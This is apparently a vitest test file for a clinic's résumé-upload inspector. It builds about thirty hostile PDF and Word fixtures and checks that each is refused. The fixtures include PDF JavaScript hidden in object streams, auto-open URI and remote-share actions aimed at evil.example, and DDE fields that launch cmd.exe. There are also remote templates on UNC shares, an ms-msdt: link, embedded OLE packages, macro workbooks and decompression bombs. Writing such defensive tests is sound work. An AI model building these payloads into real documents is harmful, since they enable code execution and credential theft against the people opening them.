/** Thirty files that would act by themselves when the clinic's staff open them. Each is refused. */
import { strToU8, type Zippable } from 'fflate';
import { expect, test } from 'vitest';
import { inspectResume } from '../../functions/resumes/inspect';
import { problems } from '../../functions/resumes/problems';
import { bytesOf, docx, docxWithChart, joined, ole, workbook } from './documents';
import { deflated, halfStored, objectStream, pdfOf, stream } from './pdf-files';

const { active, attached, embedded, locked, macros, remote, tooMuch, unreadable } = problems;

const SCRIPT = '<< /S /JavaScript /JS (app.alert(1)) >>';
const OBJECTS = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode';
/** An object stream whose first, stored block contains the end mark of a stream, and whose second a script. */
const twoBlocks = halfStored('8 0 << /A (x) >>\n%endstream\n', `<< /B ${SCRIPT} >>`);
const open = (action: string) => pdfOf([], { catalog: `/OpenAction ${action}` });
const form = (name: string) => `4 0 obj << /Type /Action /S /${name} /F (https://evil.example/) >> endobj`;

const pdfs: [string, Uint8Array, string][] = [
  [
    'a script after an end mark inside compressed data',
    pdfOf([stream(4, { dictionary: OBJECTS, data: twoBlocks })]),
    active,
  ],
  [
    'an object stream whose length ends at a false end mark',
    pdfOf([stream(4, { dictionary: OBJECTS, data: twoBlocks, length: String(7 + 17) })]),
    unreadable,
  ],
  [
    'an object stream that ends before its last block',
    pdfOf([stream(4, { dictionary: OBJECTS, data: deflated(`8 0 ${SCRIPT}`).slice(0, -9) })]),
    unreadable,
  ],
  ['an escaped encryption', pdfOf([], { trailer: '/E#6ecrypt 5 0 R' }), locked],
  ['an encryption after a comment', pdfOf([], { trailer: '/Encrypt %x\n5 0 R' }), locked],
  [
    'data after a word',
    pdfOf([`4 0 obj << ${OBJECTS} /Length 9 >> stream x\n(\nendstream endobj 5 0 obj ${SCRIPT} endobj`]),
    active,
  ],
  [
    'data after a zero',
    pdfOf([bytesOf('4 0 obj << /Length 3 >> stream\0x\n(((\nendstream endobj\n')]),
    unreadable,
  ],
  ['an attachment that opens', open('<< /S /GoToE /T << /R /C >> >>'), active],
  ['a form that sends itself', pdfOf([form('SubmitForm')]), active],
  ['a form that fetches data', pdfOf([form('ImportData')]), active],
  ['a file on a share', open('<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) >>'), active],
  ['a file on a share, in UTF-16', open('<< /S /GoToR /F <FEFF005C005C006500760069006C005C0061> >>'), active],
  ['a file on a share, in octal digits', open('<< /S /GoToR /F (\\134\\134evil\\134a) >>'), active],
  [
    'a file on a share, with slashes',
    pdfOf(['4 0 obj << /Type /Filespec /UF (//evil.example/share/a) >> endobj']),
    active,
  ],
  ['a page that opens at once', open('<< /S /URI /URI (https://evil.example/) >>'), active],
  [
    'a page that opens when a page opens, in three steps',
    pdfOf(
      [
        '5 0 obj << /O 6 0 R >> endobj 6 0 obj << /S /GoTo /D [3 0 R /Fit] /Next 7 0 R >> endobj',
        '7 0 obj << /S /URI /URI (https://evil.example/) >> endobj',
      ],
      { page: '/AA 5 0 R' },
    ),
    active,
  ],
  ['an object inside a string', pdfOf([`4 0 obj (5 0 obj ${SCRIPT} endobj) endobj`]), unreadable],
  [
    'an object stream inside the data of a picture',
    pdfOf([stream(4, { dictionary: '/Subtype /Image', data: objectStream(5, { 8: SCRIPT }) })]),
    unreadable,
  ],
  [
    'a second trailer inside data',
    pdfOf([stream(4, { dictionary: '', data: bytesOf('trailer << /Root 9 0 R >>') })]),
    unreadable,
  ],
  [
    'an object that begins inside a string of an object stream',
    pdfOf([stream(4, { dictionary: OBJECTS, data: deflated(`8 1 (${SCRIPT})`) })]),
    unreadable,
  ],
  [
    'an attachment in an object stream',
    pdfOf([objectStream(4, { 8: '<< /Type /#45mbeddedFile >>' })]),
    attached,
  ],
  ['20 kB that unpack to 20 MB', pdfOf([objectStream(4, { 8: '()'.repeat(10_000_000) })]), tooMuch],
];

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const related = (type: string, target: string, { mode = '', more = {} } = {}) =>
  docx({
    'word/_rels/document.xml.rels': strToU8(
      `<Relationships><Relationship Id="rId1" Type="${OFFICE}/${type}" Target="${target}"${mode}/></Relationships>`,
    ),
    ...more,
  });
const external = { mode: ' TargetMode="External"' };

const documentXml = (body: string) =>
  docx({ 'word/document.xml': strToU8(`<w:document>${body}</w:document>`) });
const character = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const written = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
const field = (...inside: string[]) =>
  [character('begin'), ...inside, character('separate'), character('end')].join('');
const PROGRAM = 'DDE c:\\\\windows\\\\cmd.exe /k';

const documents: [string, Uint8Array, string][] = [
  ['a field that starts a program', documentXml(field(written(` ${PROGRAM} `))), embedded],
  [
    'one whose name is spread over several elements, with an entity',
    documentXml(field(written('D'), written('&#x44;'), written('eauto c:\\\\cmd.exe'))),
    embedded,
  ],
  [
    'one whose name another field computes',
    documentXml(field(field(written('QUOTE 68 68 69')), written(' c:\\\\cmd.exe'))),
    embedded,
  ],
  ['one inside another field', documentXml(field(written('IF 1 = 1 '), field(written(PROGRAM)))), embedded],
  [
    'one in a simple element, in a header',
    docx({ 'word/header1.xml': strToU8(`<w:hdr><w:fldSimple w:instr="${PROGRAM}"/></w:hdr>`) }),
    embedded,
  ],
  [
    'one in a part with the name of a picture',
    docx({
      '[Content_Types].xml': strToU8(
        '<Types><Default Extension="png" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/></Types>',
      ),
      'word/a.png': strToU8(`<w:hdr>${field(written(PROGRAM))}</w:hdr>`),
    }),
    unreadable,
  ],
  [
    'a field that loads a picture from a share',
    documentXml(field(written('INCLUDEPICTURE "\\\\\\\\evil\\\\s.png" \\d'))),
    remote,
  ],
  ['text from a share in a field', documentXml(field(written('INCLUDETEXT file://evil/a.docx'))), remote],
  ['a link to a file on a share', related('hyperlink', 'file://evil/a.docx', external), remote],
  [
    'a program of the Packager',
    related('oleObject', 'media/a.bin', { more: { 'word/media/a.bin': ole(['\x01Ole10Native']) } }),
    embedded,
  ],
  [
    'a program as a package',
    related('package', 'embeddings/evil.exe', { more: { 'word/embeddings/evil.exe': bytesOf('MZ') } }),
    embedded,
  ],
  ['an ActiveX control', related('control', 'x.xml'), embedded],
  [
    'an alternative part in RTF',
    related('aFChunk', 'chunk.rtf', { more: { 'word/chunk.rtf': bytesOf('{\\rtf1}') } }),
    embedded,
  ],
  ['a source of addresses on a share', related('mailMergeSource', 'file://///evil/s', external), remote],
  ['a picture on a share', related('image', 'file://///evil/s.png', external), remote],
  ['a template on a share, encoded', related('attachedTemplate', '%5c%5cevil%5cs.dotm', external), remote],
  [
    'a template on a share, encoded twice',
    related('attachedTemplate', '%255c%255cevil%255cs', external),
    remote,
  ],
  ['a link to a program of Windows', related('hyperlink', 'ms-msdt:/id PCWDiagnostic', external), remote],
  ['a share in a relationship that says it is internal', related('image', '\\\\evil\\s.png'), remote],
];

const charts: [string, Uint8Array][] = [
  ['a program', joined(bytesOf('MZ'), workbook())],
  ['a file of the Packager', ole(['\x01Ole10Native'])],
  ['an encrypted workbook', ole(['EncryptedPackage'])],
  ['half a workbook', workbook().slice(0, -30)],
  ['a Word document', docx()],
  ['a workbook with macros', workbook({ 'xl/vbaProject.bin': ole(['VBA']) })],
  ['a workbook with macros by another name', workbook({}, [['vbaProject', 'notes.bin']])],
  [
    'an XLSM by another name',
    workbook({
      '[Content_Types].xml': strToU8(
        '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
      ),
    }),
  ],
  ['a workbook with a macro sheet', workbook({}, [['xlMacrosheet', 'macrosheets/sheet1.xml']])],
  ['a workbook that starts a program', workbook({}, [['externalLink', 'externalLinks/externalLink1.xml']])],
  ['a workbook that fetches data', workbook({}, [['connections', 'connections.xml']])],
  ['a picture on a share', workbook({}, [['image', '\\\\evil\\s.png']])],
  ['a workbook with a file inside', workbook({ 'xl/embeddings/oleObject1.bin': ole(['\x01Ole10Native']) })],
  ['a workbook that unpacks to 20 MB', workbook({ 'xl/worksheets/sheet1.xml': new Uint8Array(20_000_000) })],
];

test.each(charts)('a DOCX with a chart whose numbers are %s is refused', (_, data) => {
  expect(inspectResume(docxWithChart(data), 'docx')).toBe(embedded);
});

test.each([
  ['XLSM', { name: 'Microsoft_Excel_Worksheet.xlsm' }],
  ['program', { name: 'evil.exe' }],
  ['workbook that is an OLE object', { type: 'oleObject' }],
  ['workbook of the document itself, not of a chart', { chart: 'word' }],
])('a DOCX with a %s where a chart has its numbers is refused', (_, place) => {
  expect(inspectResume(docxWithChart(workbook(), place), 'docx')).toBe(embedded);
});

test('there are at least thirty', () => {
  expect(pdfs.length + documents.length).toBeGreaterThanOrEqual(30);
});

test.each(pdfs)('a PDF with %s is refused', (_, bytes, problem) => {
  expect(inspectResume(bytes, 'pdf')).toBe(problem);
});

test.each(documents)('a DOCX with %s is refused', (_, bytes, problem) => {
  expect(inspectResume(bytes, 'docx')).toBe(problem);
});

test.each([
  ['a file of the Packager', ['\x01Ole10Native'], embedded],
  ['an ActiveX control', ['\x03OCXNAME'], embedded],
  ['macros', ['Macros', 'VBA'], macros],
])('a DOC with %s is refused', (_, names, problem) => {
  const file = ole(['WordDocument', 'ObjectPool', '_1', ...names], { storages: ['ObjectPool', '_1'] });
  expect(inspectResume(file, 'doc')).toBe(problem);
});

const MB = 1024 * 1024;
const head = joined(pdfOf([]).slice(0, 15));
test.each([
  ['brackets', '<<'.repeat(2 * MB)],
  ['strings that do not end', `(${'\\('.repeat(2 * MB)}`],
  ['names', '/S/URI'.repeat(MB / 2)],
  ['digits', '1'.repeat(4 * MB)],
  ['blanks and objects', '1 obj '.repeat(MB / 2)],
  ['comments that do not end', '%1'.repeat(2 * MB)],
  ['streams without an end', '>>stream\n'.repeat(MB / 4)],
])('4 MB of %s are checked, or given up, at once', (_, text) => {
  const file = joined(head, bytesOf(text));
  const start = performance.now();
  inspectResume(file, 'pdf');
  // Generous, because a busy machine is slow: work that grows with the square of the size takes minutes.
  expect(performance.now() - start).toBeLessThan(5000);
});

test('a DOCX with more fields than a document has is given up', () => {
  const noise = crypto.getRandomValues(new Uint8Array(65_536));
  const parts = { 'word/media/a.png': noise, 'word/header1.xml': strToU8('<w:fldChar/>'.repeat(220_000)) };
  expect(inspectResume(docx(parts), 'docx')).toBe(tooMuch);
});

test('a DOCX with a megabyte of tags that do not end is checked at once', () => {
  const parts = Object.fromEntries(
    Array.from({ length: 30 }, (_, at): [string, Zippable[string]] => [
      `word/_rels/${at}.xml.rels`,
      [strToU8('<Relationship "'.repeat(8000)), { level: 0 }],
    ]),
  );
  const start = performance.now();
  expect(inspectResume(docx(parts), 'docx')).toBe(unreadable);
  expect(performance.now() - start).toBeLessThan(5000);
});
